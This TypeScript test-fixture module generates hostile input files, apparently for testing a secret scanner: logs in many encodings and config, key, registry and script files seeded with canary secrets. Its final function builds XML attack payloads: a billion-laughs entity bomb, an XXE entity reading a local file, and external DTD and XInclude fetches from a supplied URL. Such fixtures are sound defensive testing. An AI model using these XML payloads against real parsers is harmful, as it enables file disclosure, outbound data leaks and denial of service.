// Files whose contents are hostile: secrets in every format and coding, text that is none, XML that fetches or explodes.
import { awkwardSecret, bearer, cloudKey, privateKey, secret, token } from './canaries.ts';

/** A file of the hostile plant, below the folder it is put into. */
export interface HostileFile {
  readonly name: string;
  readonly content: string | Buffer;
}

const LINE = '2026-01-14 14:59:01.120 INFO  [PT.SystemService] Import of 212 jobs took 31 s\n';

function xmlEscaped(text: string): string {
  return text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('"', '&quot;').replaceAll("'", '&apos;');
}

/** Lines of a log with a secret of each kind. */
function secretLines(label: string): string {
  return [
    `Could not open. ConnectionString: Server=NFF-SQL01;Database=PT;User ID=svc;Password="${awkwardSecret(`${label} 1`)}"`,
    `Driver={ODBC Driver 17 for SQL Server};UID=svc;PWD={${awkwardSecret(`${label} 2`)}};Server=NFF-SQL01`,
    `Running: sqlcmd -S NFF-SQL01 -U svc -P ${secret(`${label} 3`)} -Q "EXEC dbo.AfterPublish"`,
    `GET https://svc:${secret(`${label} 4`)}@erp.example.test/odata/v4?api_key=${secret(`${label} 5`)}&page=4 -> 401`,
    `Authorization: Bearer ${bearer(`${label} 6`)}`,
    `Request headers: { "Accept": "text/plain", "x-api-key": "${token(`${label} 7`)}" }`,
    `<Publish><UserName>APSAgent</UserName><Password>${xmlEscaped(awkwardSecret(`${label} 8`))}</Password></Publish>`,
    `aws ${cloudKey(`${label} 9`)} was refused`,
    `Kennwort: ${secret(`${label} 10`)}`,
  ].join('\n');
}

/** The same lines between harmless ones. */
function logText(label: string): string {
  return `${LINE.repeat(3)}${secretLines(label)}\n${LINE.repeat(2)}`;
}

function bigEndian(text: string): Buffer {
  return Buffer.from(text, 'utf16le').swap16();
}

const marked = (mark: number[], bytes: Buffer): Buffer => Buffer.concat([Buffer.from(mark), bytes]);

/** Logs in the codings that Windows writes, declared or not, and in none. */
export function codedLogs(): HostileFile[] {
  const wide = (label: string): Buffer => Buffer.from(logText(label), 'utf16le');
  const nul = Buffer.from([0]);
  return [
    { name: 'utf-8.log', content: logText('utf-8') },
    { name: 'utf-8-bom.log', content: `\uFEFF${logText('utf-8-bom')}` },
    { name: 'utf-16le-bom.log', content: marked([0xff, 0xfe], wide('utf-16le-bom')) },
    { name: 'utf-16be-bom.log', content: marked([0xfe, 0xff], bigEndian(logText('utf-16be-bom'))) },
    { name: 'utf-16le-plain.log', content: wide('utf-16le-plain') },
    { name: 'utf-16be-plain.log', content: bigEndian(logText('utf-16be-plain')) },
    { name: 'utf-16le-cut.log', content: marked([0xff, 0xfe], wide('utf-16le-cut').subarray(0, -1)) },
    { name: 'utf-32le-bom.log', content: marked([0xff, 0xfe, 0, 0], utf32(logText('utf-32le'))) },
    { name: 'windows-1252.log', content: Buffer.from(`Prüfung für Müller: ${logText('1252')}`, 'latin1') },
    {
      name: 'invalid.log',
      content: Buffer.concat([Buffer.from([0xc3, 0x28, 0xff, 0xfe]), Buffer.from(logText('invalid'))]),
    },
    {
      name: 'nuls.log',
      content: Buffer.concat([nul, Buffer.from(logText('nuls')), Buffer.alloc(4_096), Buffer.from(logText('nuls 2'))]),
    },
    { name: 'half-wide.log', content: Buffer.concat([Buffer.from(logText('half')), wide('half 2')]) },
    { name: 'one-line.log', content: `${'x'.repeat(600_000)} Password=${secret('one line')}; ${'y'.repeat(600_000)}` },
    {
      name: 'one-wide-line.log',
      content: `{"log":"${'a.'.repeat(600_000)}","clientSecret":"${secret('one json line')}"}`,
    },
    { name: 'no-newlines.log', content: logText('no newlines').replaceAll('\n', '\r') },
    { name: 'empty.log', content: '' },
  ];
}

function utf32(text: string): Buffer {
  const bytes = Buffer.alloc(text.length * 4);
  for (let at = 0; at < text.length; at += 1) bytes.writeUInt32LE(text.charCodeAt(at), at * 4);
  return bytes;
}

/** Settings and other files in the formats that are found on such servers. */
export function formattedFiles(): HostileFile[] {
  const connection = (label: string): string => `Server=s;Database=d;User Id=u;Password="${awkwardSecret(label)}"`;
  return [
    {
      name: 'app.config',
      content: `<?xml version="1.0"?><configuration><connectionStrings><add name="a" connectionString="${xmlEscaped(connection('config'))}"/></connectionStrings><appSettings><add value="${secret('sibling')}" key="SmtpPassword"/></appSettings><!-- Pwd=${secret('comment')} --><x><![CDATA[${connection('cdata')}]]></x></configuration>`,
    },
    {
      name: 'wide.config',
      content: marked(
        [0xff, 0xfe],
        Buffer.from(`<?xml version="1.0" encoding="utf-16"?><a password="${secret('wide xml')}"/>`, 'utf16le'),
      ),
    },
    {
      name: 'appsettings.json',
      content: `{ /* c */ "ConnectionStrings": { "Db": ${JSON.stringify(connection('json'))} }, "ClientSecret": "${secret('json')}", "Jwt": { "SigningKey": "${secret('json key')}" } }`,
    },
    { name: 'broken.json', content: `{ "password": "${secret('broken json')}", "token": "${token('broken json')}` },
    { name: 'odbc.ini', content: `[DSN]\nUID=sa\nPWD=${secret('ini')}\n` },
    {
      name: 'export.reg',
      content: marked(
        [0xff, 0xfe],
        Buffer.from(
          `Windows Registry Editor Version 5.00\r\n\r\n[HKEY_LOCAL_MACHINE\\SOFTWARE\\PT]\r\n"Password"="${secret('reg')}"\r\n`,
          'utf16le',
        ),
      ),
    },
    { name: '.env', content: `DB_PASSWORD=${secret('env')}\nAPI_TOKEN='${token('env')}'\n` },
    { name: 'id_rsa', content: privateKey('pem') },
    {
      name: 'server.pem.txt',
      content: `-----BEGIN PRIVATE KEY-----\n${privateKey('cut pem').split('\n').slice(1, 4).join('\n')}`,
    },
    {
      name: 'setup.sql',
      content: `CREATE LOGIN aps WITH PASSWORD = N'${secret('sql')}';\nALTER LOGIN aps WITH PASSWORD = '${secret('sql 2')}' OLD_PASSWORD = '${secret('sql 3')}';\n`,
    },
    {
      name: 'run.cmd',
      content: `net use \\\\s\\share /user:DOM\\ann ${secret('cmd')}\r\nschtasks /create /ru ann /rp ${secret('cmd 2')}\r\n`,
    },
  ];
}

/** XML that asks for files, calls out, or grows without end; each also holds a secret. */
export function hostileXml(outsideFile: string, url: string): HostileFile[] {
  const element = (label: string, inner: string): string =>
    `<SchedulingAgent><Password>${secret(label)}</Password><Text>${inner}</Text></SchedulingAgent>`;
  const laughs = Array.from({ length: 12 }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`).join('\n');
  return [
    {
      name: 'laughs.xml',
      content: `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY l0 "lol">\n${laughs}]>${element('laughs', '&l12;')}`,
    },
    {
      name: 'blow-up.xml',
      content: `<?xml version="1.0"?><!DOCTYPE b [<!ENTITY a "${'a'.repeat(50_000)}">]>${element('blow-up', '&a;'.repeat(50_000))}`,
    },
    {
      name: 'file-entity.xml',
      content: `<?xml version="1.0"?><!DOCTYPE f [<!ENTITY x SYSTEM "file://${outsideFile}"><!ENTITY % p SYSTEM "${url}p.dtd"> %p;]>${element('file entity', '&x;')}`,
    },
    {
      name: 'outer-dtd.xml',
      content: `<?xml version="1.0"?><!DOCTYPE d SYSTEM "${url}outer.dtd"><?xml-stylesheet href="${url}s.xsl"?>${element('outer dtd', `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${url}x"/>`)}`,
    },
    {
      name: 'deep.xml',
      content: `${'<a>'.repeat(100_000)}<Password>${secret('deep xml')}</Password>${'</a>'.repeat(100_000)}`,
    },
    { name: 'unclosed.xml', content: `<a pwd="${secret('unclosed')}" password="${secret('unclosed 2')}` },
  ];
}
